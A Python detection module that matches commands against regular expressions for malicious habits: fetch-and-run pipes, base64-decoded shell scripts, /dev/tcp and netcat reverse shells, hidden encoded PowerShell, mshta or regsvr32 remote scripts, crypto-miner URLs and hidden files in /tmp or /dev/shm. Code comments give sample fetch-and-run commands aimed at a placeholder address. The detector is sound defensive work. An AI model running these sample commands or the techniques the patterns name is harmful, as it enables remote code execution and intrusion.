"""Malicious habits in a command that the system starts, and the programs that it names."""

from __future__ import annotations

import re
from collections.abc import Iterator

_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = tuple(
    (code, re.compile(pattern, re.IGNORECASE))
    for code, pattern in (
        # curl -fsSL http://198.51.100.7/x.sh | sh
        ("fetch_and_run", r"\b(?:curl|wget|fetch)\b[^|;&\n]{0,500}\|\s{0,5}(?:sudo\s+)?(?:ba|da|z)?sh\b"),
        # bash -c "$(curl -fsSL http://198.51.100.7/x)"
        ("fetch_and_run", r"\b(?:ba|da|z)?sh\s+-c\s+[\"']?(?:\$\(|`)\s{0,3}(?:curl|wget)\b"),
        # echo Y3VybA== piped through base64 -d into bash
        ("decode_and_run", r"base64\s+(?:-d|-D|--decode)\b[^|\n]{0,200}\|\s{0,5}(?:ba|da|z)?sh\b"),
        ("reverse_shell", r"/dev/(?:tcp|udp)/[\w.\-]{3,255}/\d{1,5}"),
        ("reverse_shell", r"\b(?:nc|ncat)\b[^|;\n]{0,100}\s-[a-z]{0,4}e\s+/bin/"),
        # powershell -w hidden -enc SQBFAFgA...
        ("hidden_powershell", r"powershell[^\n]{0,300}\s-(?:e|en|enc|encodedcommand)\s+[a-z0-9+/=]{40}"),
        (
            "hidden_powershell",
            r"powershell[^\n]{0,300}-w(?:i|in|indowstyle)?\s+(?:h|hid|hidden|1)\b[^\n]{0,2000}"
            r"(?:download|iex|invoke-|frombase64|irm |iwr )",
        ),
        ("script_from_net", r"\b(?:mshta|regsvr32)(?:\.exe)?\b[^\n]{0,200}https?:"),
        ("script_from_net", r"\bmshta(?:\.exe)?\b[^\n]{0,20}(?:javascript|vbscript):"),
        ("miner_command", r"stratum\+(?:tcp|ssl|tls)://|--donate-level\b"),
        # /tmp/.x/kworker, /dev/shm/a
        ("odd_place", r"(?:^|[\s\"'=;&|])/(?:dev/shm|tmp|var/tmp)/(?:\.[\w.\-]|[\w.\-]+/\.)[\w./\-]{0,200}"),
        ("odd_place", r"(?:^|[\s\"'=;&|])/dev/shm/[\w.\-]"),
    )
)
COMMAND_CHARACTERS = 16384
_PROGRAM = re.compile(r"(?:^|[\s\"'=;&|(])(/(?:[\w.+@%:,~\-]+/)*[\w.+@%:,~\-]+)")
_WINDOWS_PROGRAM = re.compile(
    r"\"([a-z]:\\[^\"|<>?*\n]{1,400})\"|([a-z]:\\[^\"|<>?*\n]{1,400}?\.(?:exe|dll|com|scr|bat"
    r"|cmd|vbs|vbe|js|jse|ps1|hta|wsf))",
    re.IGNORECASE,
)


def judged(command: str) -> str | None:
    """Return the code of a known malicious habit of the command (see `labels.HABITS`), or None."""
    text = command[:COMMAND_CHARACTERS]
    return next((code for code, pattern in _PATTERNS if pattern.search(text)), None)


def programs(command: str) -> Iterator[str]:
    """Yield the absolute paths in a command, at most twenty."""
    text = command[:COMMAND_CHARACTERS]
    count = 0
    for match in _PROGRAM.finditer(text):
        if not match[1].startswith(("/dev/", "/proc/", "/sys/")):
            yield match[1]
            count += 1
        if count >= 20:
            return
    for match in _WINDOWS_PROGRAM.finditer(text):
        yield match[1] or match[2]
        count += 1
        if count >= 20:
            return
